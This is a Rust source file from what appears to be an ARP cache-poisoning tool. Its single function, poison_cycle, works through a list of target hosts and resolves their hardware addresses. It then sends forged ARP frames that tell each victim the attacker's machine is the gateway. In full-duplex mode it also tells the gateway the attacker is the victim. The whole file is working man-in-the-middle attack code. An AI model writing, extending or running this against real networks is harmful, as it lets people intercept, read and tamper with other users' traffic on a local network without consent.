//! One round of cache poisoning across the target set

use crate::forge::ArpForger;
use crate::gateway::Gateway;
use arpoison_core::{AddressResolver, DuplexMode, MacAddr, TargetRegistry};
use tracing::{debug, info, warn};

/// Poison every resolved target once.
///
/// Each target's cache learns that the gateway lives at `local_mac`;
/// in full-duplex mode the gateway's cache also learns that the target
/// lives here. Targets without a known hardware address are resolved on
/// the spot, and skipped for this round if resolution comes up empty.
/// Returns the number of forged frames submitted.
pub async fn poison_cycle(
    targets: &TargetRegistry,
    resolver: &dyn AddressResolver,
    forger: &ArpForger,
    local_mac: MacAddr,
    gateway: &Gateway,
    duplex: DuplexMode,
) -> usize {
    let mut sent = 0;

    for target in targets.snapshot() {
        let mac = match target.mac {
            Some(mac) => mac,
            None => {
                debug!(ip = %target.ip, "resolving target");
                match resolver.resolve(target.ip).await {
                    Ok(Some(mac)) => {
                        info!(ip = %target.ip, mac = %mac, "target resolved");
                        targets.set_mac(target.ip, mac);
                        mac
                    }
                    Ok(None) => {
                        warn!(ip = %target.ip, "couldn't determine target hardware address");
                        continue;
                    }
                    Err(e) => {
                        warn!(ip = %target.ip, error = %e, "target resolution failed");
                        continue;
                    }
                }
            }
        };

        // Tell the victim we are the gateway.
        match forger.forge(gateway.ip, local_mac, target.ip, mac) {
            Ok(()) => sent += 1,
            Err(e) => warn!(target = %target.ip, error = %e, "poison frame failed"),
        }

        // Tell the gateway we are the victim.
        if !duplex.is_half() {
            match forger.forge(target.ip, local_mac, gateway.ip, gateway.mac) {
                Ok(()) => sent += 1,
                Err(e) => warn!(target = %target.ip, error = %e, "reverse poison frame failed"),
            }
        }
    }

    sent
}
